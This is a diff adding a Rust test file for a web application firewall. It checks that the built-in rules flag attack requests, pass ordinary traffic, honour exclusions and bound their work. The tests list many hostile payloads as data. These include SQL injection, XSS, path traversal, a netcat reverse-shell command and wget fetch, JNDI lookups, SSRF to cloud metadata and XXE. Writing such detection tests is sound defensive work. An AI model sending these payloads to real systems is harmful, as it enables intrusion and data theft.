@@ -1,0 +1,273 @@
+//! What the built-in rules find, and what they leave alone.
+
+use std::{net::IpAddr, sync::Arc};
+
+use super::{super::*, rule_names};
+use crate::settings::waf::{Exclusion, Mode, Parameter, RuleMatch, Settings};
+
+fn settings() -> Settings {
+    Settings {
+        name: "test".to_owned(),
+        mode: Mode::Enforce,
+        has_builtin: true,
+        roots: Vec::new(),
+        files: Vec::new(),
+        threshold: 5,
+        paranoia: 1,
+        inspect_body: Some(1 << 20),
+        exclude: Vec::new(),
+    }
+}
+
+fn judge(settings: Settings, target: &str, headers: &[(&str, &str)], body: &str) -> Verdict {
+    let waf = Waf::new(Arc::new(Rules::new(&settings, None).unwrap()), Some("items"), None);
+    let headers: Vec<_> = headers.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
+    waf.judge(&Request {
+        method: "POST",
+        target,
+        protocol: "HTTP/1.1",
+        headers: &headers,
+        body: body.as_bytes(),
+        client: IpAddr::from([192, 0, 2, 1]),
+    })
+}
+
+fn encode(value: &str) -> String {
+    value.bytes().map(|byte| format!("%{byte:02x}")).collect()
+}
+
+/// A value in the query, a form and JSON: the rule finds it everywhere.
+#[track_caller]
+fn found(rule: &str, value: &str) {
+    let json = serde_json::json!({ "a": { "list": [value] } }).to_string();
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    for (target, headers, body, place) in [
+        (format!("/items?q={}", encode(value)), &[][..], String::new(), Place::Query),
+        (format!("/items?q={}", encode(&encode(value))), &[], String::new(), Place::Query),
+        ("/items".to_owned(), &form, format!("q={}", encode(value)), Place::Body),
+        ("/items".to_owned(), &[("content-type", "application/json")], json, Place::Body),
+    ] {
+        let verdict = judge(settings(), &target, headers, &body);
+        let is_found = verdict.findings.iter().any(|it| &*it.rule == rule && it.place == place);
+        assert!(is_found && verdict.is_attack, "{value:?} in {target} {body}: {verdict:?}");
+    }
+}
+
+#[track_caller]
+fn clean(target: &str, headers: &[(&str, &str)], body: &str) {
+    let verdict = judge(settings(), target, headers, body);
+    assert!(!verdict.is_attack, "{target} {headers:?} {body}: {verdict:?}");
+}
+
+#[test]
+fn every_kind_of_attack_is_found() {
+    for (rule, values) in [
+        (
+            "sql_injection",
+            &["1' or '1'='1", "1 UNION SELECT a,b FROM users--", "x'; DROP TABLE users--", "1 and sleep(5)"][..],
+        ),
+        ("xss", &["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)"]),
+        ("path_traversal", &["../../../etc/passwd", "..\\..\\windows\\win.ini", "a/../../b"]),
+        ("sensitive_file", &["/etc/passwd", "C:\\windows\\system32\\drivers"]),
+        ("null_byte", &["image.php\0.png"]),
+        ("header_injection", &["x\r\nSet-Cookie: a=b", "x\r\n\r\nHTTP/1.1 200 OK"]),
+        (
+            "command_injection",
+            &["; cat /etc/hosts", "$(whoami)", "| nc -e /bin/sh 192.0.2.1 1", "`id`", "a && wget http://x"],
+        ),
+        (
+            "code_injection",
+            &["<?php system('id'); ?>", "require('child_process').exec('id')", "__import__('os').system('id')"],
+        ),
+        ("template_injection", &["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}"]),
+        (
+            "expression_injection",
+            &[
+                "${jndi:ldap://x/a}",
+                "${${lower:j}ndi:rmi://x}",
+                "%{#context['x']}",
+                "T(java.lang.Runtime).getRuntime().exec('x')",
+            ],
+        ),
+        ("nosql_injection", &["{\"$gt\": \"\"}", "'; return true; var a='", "' || this.password.match(/a/)"]),
+        ("ldap_injection", &["*)(uid=*))(|(uid=*", "admin)(&(password=*))"]),
+        ("xpath_injection", &["' or count(/user)=1", "x'] | //user/*"]),
+        (
+            "ssrf",
+            &[
+                "http://169.254.169.254/latest/meta-data/",
+                "http://localhost:8080/admin",
+                "gopher://127.0.0.1:6379/_x",
+                "http://[::1]/",
+                "http://2130706433/",
+            ],
+        ),
+        (
+            "serialized_object",
+            &["rO0ABXNyABdqYXZhLnV0aWwu", "O:8:\"Evil_Cls\":1:{s:1:\"a\";i:1;}", "!!python/object/apply:os.system"],
+        ),
+        ("xxe", &["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"]),
+        ("prototype_pollution", &["{\"__proto__\":{\"admin\":true}}"]),
+    ] {
+        for value in values {
+            found(rule, value);
+        }
+    }
+}
+
+#[test]
+fn names_paths_headers_cookies_and_files_are_looked_at() {
+    let multipart = [("content-type", "multipart/form-data; boundary=x")];
+    let cookies = "a=b;".repeat(1_001);
+    for (target, headers, body, rule, place) in [
+        ("/a?__proto__[x]=1", &[][..], "", "prototype_pollution", Place::Query),
+        ("/a?user[$ne]=1", &[], "", "nosql_injection", Place::Query),
+        ("/a", &[("content-type", "application/json")], "{\"user\":{\"$ne\":null}}", "nosql_injection", Place::Body),
+        ("/files/%252e%252e/%252e%252e/x", &[], "", "path_traversal", Place::Path),
+        ("/a", &[("user-agent", "${jndi:ldap://x/y}")], "", "expression_injection", Place::Header),
+        ("/a", &[("accept", "${jndi:ldap://x/y}")], "", "expression_injection", Place::Header),
+        ("/a", &[("cookie", "a=b; c=' or 1=1--")], "", "sql_injection", Place::Cookie),
+        (
+            "/a",
+            &multipart,
+            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../a.php\"\r\n\r\n<script>\r\n--x--\r\n",
+            "path_traversal",
+            Place::File,
+        ),
+        (
+            "/a",
+            &[("content-type", "application/xml")],
+            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]><a>&x;</a>",
+            "xxe",
+            Place::Body,
+        ),
+        (
+            "/a",
+            &multipart,
+            "x--x--\r\n--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' OR 1=1--\r\n--x--",
+            "unreadable_body",
+            Place::Body,
+        ),
+        (
+            "/a",
+            &multipart,
+            "--x\r\nContent-Disposition: form-data; name=\"q\"; filename=\"\"\r\n\r\n' OR 1=1--\r\n--x--",
+            "sql_injection",
+            Place::Body,
+        ),
+        ("/a", &[("content-type", "application/json")], "{\"' OR 1=1--\":[]}", "sql_injection", Place::Body),
+        ("/a", &[("content-type", "application/json")], "{\"$where\":{}}", "nosql_injection", Place::Body),
+        ("/a", &[("cookie", &*cookies)], "", "too_many_values", Place::Other),
+        ("/a?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", &[], "", "xss", Place::Query),
+        ("/a", &[("content-type", "application/json")], "{'a': '<script>'}", "xss", Place::Body),
+        ("/a", &[("user-agent", "sqlmap/1.7#stable")], "", "scanner", Place::Header),
+    ] {
+        let verdict = judge(settings(), target, headers, body);
+        let is_found = verdict.findings.iter().any(|it| &*it.rule == rule && it.place == place);
+        assert!(is_found && verdict.is_attack, "{target} {headers:?} {body}: {verdict:?}");
+    }
+}
+
+#[test]
+fn ordinary_requests_pass() {
+    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
+    let headers = [
+        ("host", "api.example.com"),
+        ("user-agent", browser),
+        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"),
+        ("referer", "https://www.example.com/search?q=shoes&page=2"),
+        ("cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln; theme=dark; _ga=GA1.2.3.4"),
+        ("content-type", "application/json"),
+    ];
+    for target in [
+        "/",
+        "/items/7?sort=name&order=asc&page=2",
+        "/search?q=O%27Brien%20and%20sons",
+        "/search?q=select%20a%20size%20from%20the%20list",
+        "/search?q=drop%20shipping%20or%20pick-up",
+        "/cb?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb%3Fa%3Db&state=af0ifjsldkj",
+        "/items?filter=price%3E10%20and%20price%3C20",
+        "/a?id=550e8400-e29b-41d4-a716-446655440000&t=2026-11-29T20:00:00Z",
+        "/v1/users/ada@example.com/mail",
+    ] {
+        clean(target, &headers, "");
+    }
+    for text in [
+        "Please call me; I am at home & waiting.",
+        "100% cotton -- new",
+        "It's 5 o'clock (or so), isn't it?",
+        "Line one\r\nLine two: with a colon\r\nLine three",
+        "Terms & conditions; see section 3.2 | 4.1",
+        "if (a > b) { return c; }",
+        "<b>bold</b> and <a href=\"https://example.com\">a link</a>",
+        "C'est l'été; voilà",
+        "price = $100 {discount: 20%}",
+        "SGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ==",
+    ] {
+        clean("/items", &headers, &serde_json::json!({ "text": text }).to_string());
+    }
+}
+
+#[test]
+fn exceptions_are_by_rule_parameter_and_route() {
+    let exclusion = |rules, parameter: Option<(&str, &str)>, routes: &[&str]| Exclusion {
+        rules: vec![rules],
+        parameters: parameter
+            .map(|(place, name)| Parameter {
+                place: Some(place).filter(|it| !it.is_empty()).map(str::to_owned),
+                name: name.to_owned(),
+            })
+            .into_iter()
+            .collect(),
+        routes: routes.iter().map(|&route| route.to_owned()).collect(),
+    };
+    let name = || RuleMatch::Name("path_traversal".to_owned());
+    for (exclude, is_attack) in [
+        (exclusion(name(), None, &[]), false),
+        (exclusion(RuleMatch::All, None, &["items"]), false),
+        (exclusion(RuleMatch::All, None, &["others"]), true),
+        (exclusion(RuleMatch::Tag("attack-lfi".to_owned()), Some(("", "q")), &[]), false),
+        (exclusion(RuleMatch::Tag("attack-sqli".to_owned()), None, &[]), true),
+        (exclusion(RuleMatch::Range(930_000, 930_999), None, &[]), true),
+        (exclusion(name(), Some(("query", "Q*")), &[]), false),
+        (exclusion(name(), Some(("body", "q")), &[]), true),
+        (exclusion(name(), Some(("", "other")), &[]), true),
+    ] {
+        let shown = format!("{exclude:?}");
+        let verdict = judge(Settings { exclude: vec![exclude], ..settings() }, "/a?q=../../x", &[], "");
+        assert_eq!(verdict.is_attack, is_attack, "{shown}: {verdict:?}");
+    }
+}
+
+#[test]
+fn hostile_requests_take_bounded_work() {
+    let long = "a=".to_owned() + &"%25".repeat(60_000);
+    let many: String = (0..20_000).map(|index| format!("a{index}=1&")).collect();
+    let deep = "[".repeat(100_000);
+    let slow = format!("q={}", "<a ".repeat(20_000));
+    let json = [("content-type", "application/json")];
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    for (headers, body) in
+        [(&form, long), (&form, many.clone()), (&json, deep), (&form, slow), (&json, "{\"a\"".to_owned())]
+    {
+        judge(settings(), "/a", headers, &body);
+    }
+    let verdict = judge(settings(), "/a", &form, &many);
+    assert!(verdict.findings.iter().any(|it| &*it.rule == "too_many_values"), "{verdict:?}");
+    // Reading SQL has a budget of its own, which text does not spend.
+    let list = |unit: &str| serde_json::json!(vec![unit.repeat(2_000 / unit.len()); 400]).to_string();
+    for (unit, is_attack) in [("plain text, ", false), ("$.", true)] {
+        let verdict = judge(settings(), "/a", &json, &list(unit));
+        assert_eq!(verdict.is_attack, is_attack, "{unit}: {verdict:?}");
+    }
+    let verdict = judge(settings(), &format!("/a?{}=../../x", "n\u{7f}".repeat(1_000)), &[], "");
+    assert!(verdict.detail().len() < 256, "{}", verdict.detail());
+}
+
+#[test]
+fn the_page_explains_every_rule() {
+    let page = include_str!("../../../../../docs/waf.md");
+    for name in rule_names() {
+        assert!(page.contains(&format!("`{name}`")), "docs/waf.md lacks {name}");
+    }
+}
